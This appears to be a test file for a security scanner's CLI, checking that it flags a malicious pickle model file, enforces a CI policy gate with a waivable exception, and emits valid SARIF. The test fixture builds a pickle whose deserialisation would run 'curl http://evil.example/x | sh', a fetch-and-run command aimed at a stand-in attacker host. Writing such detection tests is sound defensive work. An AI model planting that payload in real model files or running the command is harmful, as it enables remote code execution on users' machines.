import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { Ajv } from "ajv";
import addFormats from "ajv-formats";
import { runCli } from "./helpers/cli.js";
import { loadSarifSchema } from "./helpers/sarif-schema.js";

function modelFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), "palisade-scan-gate-"));
  // A pickle that would run a shell command when loaded; built, never loaded.
  execFileSync("python3", [
    "-c",
    `import pickle, os
class E:
    def __reduce__(self): return (os.system, ("curl http://evil.example/x | sh",))
open(${JSON.stringify(join(dir, "model.pkl"))}, "wb").write(pickle.dumps(E()))
open(${JSON.stringify(join(dir, "weights.pkl"))}, "wb").write(pickle.dumps({"w": [1.0, 2.0]}))`,
  ]);
  return dir;
}

describe("CI gate on scan model", () => {
  it("fails with exit 1 under a policy, and waives a finding with an exception", async () => {
    const dir = modelFolder();
    const policy = join(dir, "policy.yaml");
    writeFileSync(
      policy,
      "apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n",
    );
    const failed = await runCli(["scan", "model", dir, "--policy", policy, "--exit-code"]);
    assert.equal(failed.code, 1, failed.stderr);
    assert.match(failed.stdout, /gate: deny/);
    assert.match(failed.stdout, /supply-chain\.finding +deny +model\/pickle-dangerous-call/);
    writeFileSync(
      policy,
      `apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n  exceptions:\n    - { rule: supply-chain.finding, target: "${dir}/*", owner: sec, reason: quarantined test file, expires: 2099-01-01 }\n`,
    );
    const waived = await runCli(["scan", "model", dir, "--policy", policy, "--exit-code"]);
    assert.equal(waived.code, 0, waived.stderr);
  });

  it("writes SARIF that validates against the official schema", async () => {
    const result = await runCli(["scan", "model", modelFolder(), "--format", "sarif"]);
    const ajv = new Ajv({ strict: false });
    (addFormats as unknown as (a: Ajv) => void)(ajv);
    const validate = ajv.compile(loadSarifSchema());
    const sarif = JSON.parse(result.stdout) as { runs: { results: { ruleId: string; level: string }[] }[] };
    assert.ok(validate(sarif), JSON.stringify(validate.errors?.slice(0, 3)));
    assert.deepEqual(
      sarif.runs[0]?.results.map((r) => [r.ruleId, r.level]),
      [["model/pickle-dangerous-call", "error"]],
    );
  });
});

describe("palisade scan fs", () => {
  it("runs the code and model scanners over one folder with one report and one exit code", async () => {
    const dir = modelFolder();
    writeFileSync(join(dir, "requirements.txt"), "openai==1.54.3\n");
    writeFileSync(
      join(dir, "app.py"),
      'from openai import OpenAI\nclient = OpenAI()\nclient.chat.completions.create(model="gpt-4o-mini", messages=[])\n',
    );
    const result = await runCli(["scan", "fs", dir, "--format", "json", "--exit-code"]);
    assert.equal(result.code, 1, result.stderr);
    const report = JSON.parse(result.stdout) as {
      code: { sdks: { name: string }[]; models: { id: string }[] };
      models: { summary: { malicious: number; safe: number } };
      verdict: { decision: string };
    };
    assert.deepEqual(
      report.code.sdks.map((s) => s.name),
      ["openai"],
    );
    assert.deepEqual(
      report.code.models.map((m) => m.id),
      ["gpt-4o-mini"],
    );
    assert.deepEqual([report.models.summary.malicious, report.models.summary.safe], [1, 1]);
    assert.equal(report.verdict.decision, "deny");
  });
});
